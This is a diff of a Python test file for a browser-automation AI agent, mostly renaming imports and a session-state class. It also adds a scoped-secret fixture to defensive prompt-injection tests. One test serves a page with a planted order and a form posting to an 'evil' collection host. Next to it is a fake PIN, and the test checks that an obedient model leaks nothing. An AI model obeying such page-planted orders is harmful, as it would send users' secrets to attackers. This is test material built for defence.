@@ -13,22 +13,22 @@ from typing import Any
 import pytest
 import pytest_asyncio
 
-from agent import session
-from agent.browser import Browser
-from agent.chromium.launch import launch
-from agent.models.model import Ask
-from agent.policies.model import ModelPolicy, ModelPolicyOptions
-from agent.policies.model.calls import call_offers
-from agent.policies.policy import Scene
-from agent.policies.rules.policy import RulesPolicy
-from agent.spec import JobSpec
-from agent.status import Status
-from agent.testing import ScriptedModel
-from services.browsers.secrets import FolderSecrets
+from shoal.agent.browser import Browser
+from shoal.agent.chromium.process.launch import launch
+from shoal.agent.models.model import Ask
+from shoal.agent.policies.model import ModelPolicy, ModelPolicyOptions
+from shoal.agent.policies.model.checks.calls import call_offers
+from shoal.agent.policies.policy import SessionState
+from shoal.agent.policies.rules.policy import RulesPolicy
+from shoal.agent.sessions import session
+from shoal.agent.spec import JobSpec
+from shoal.agent.status import Status
+from shoal.agent.testing import ScriptedModel
+from shoal.services.browsers.session_parts.secrets import FolderSecrets
 from tests.acceptance.test_model import PLAN
 from tests.loopback import served
 from tests.unit.agent.model.test_step import act, says
-from tests.unit.session.test_session import Notes, desk, work
+from tests.unit.session.test_session import Notes, deps, work
 
 Json = Any
 
@@ -112,7 +112,7 @@ async def test_orders_reach_the_prompt_between_fences_or_not_at_all(browser: Bro
     await context.goto(site.html("/", body))
     model = ScriptedModel(lambda ask: says(act("WAIT")))
     spec = JobSpec(url=site.url, goal="Buy a lamp")
-    await ModelPolicy(model, RulesPolicy()).step(Scene(spec, None, None, context), "Buy it", ())
+    await ModelPolicy(model, RulesPolicy()).step(SessionState(spec, None, None, context), "Buy it", ())
     await context.close()
 
     (ask,) = model.asked
@@ -129,6 +129,7 @@ async def test_an_obedient_model_does_no_harm(browser: Browser, site: Site, tmp_
     start = site.html("/", f"<p>{ORDER}</p><form action='{evil}/collect'><input name=q><input type=file><button>Go")
     (tmp_path / "t").mkdir()
     (tmp_path / "t" / "PIN").write_text("hunter2-hunter2")
+    (tmp_path / "t" / "PIN.domains").write_text("bank.example")
     spec = {"url": start, "secrets": {"PIN": {"domains": ["bank.example"]}}, "data": {"pin": "secret:PIN", "n": "Ada"}}
 
     def told(ask: Ask) -> Json:
@@ -156,7 +157,7 @@ async def test_an_obedient_model_does_no_harm(browser: Browser, site: Site, tmp_
     notes = Notes()
     policy = ModelPolicy(model, RulesPolicy(), calls=call_offers)
     secrets = FolderSecrets(str(tmp_path), "t", one.spec)
-    outcome = await session.run(one, desk(browser, notes, policy=policy, secrets=secrets))  # type: ignore[arg-type]
+    outcome = await session.run(one, deps(browser, notes, policy=policy, secrets=secrets))  # type: ignore[arg-type]
 
     assert outcome.status is Status.FAILED
     assert outcome.error is not None
@@ -202,9 +203,9 @@ async def test_odd_pages_are_asked_about_and_read(browser: Browser, site: Site, 
     options = ModelPolicyOptions(page_chars=8000, parts=3)
     policy = ModelPolicy(model, RulesPolicy(), options=options)
     spec = JobSpec(url=site.url, goal="Read the lamps", extract={"schema": schema})
-    scene = Scene(spec, None, None, context)
-    assert (await policy.step(scene, "x", ())).actions[0].name == "noop"
-    found = await policy.extract(scene)
+    state = SessionState(spec, None, None, context)
+    assert (await policy.step(state, "x", ())).actions[0].name == "noop"
+    found = await policy.extract(state)
     await context.close()
 
     assert [record.value for record in found.records] == ([] if kind == "empty" else [{"price": 12}])
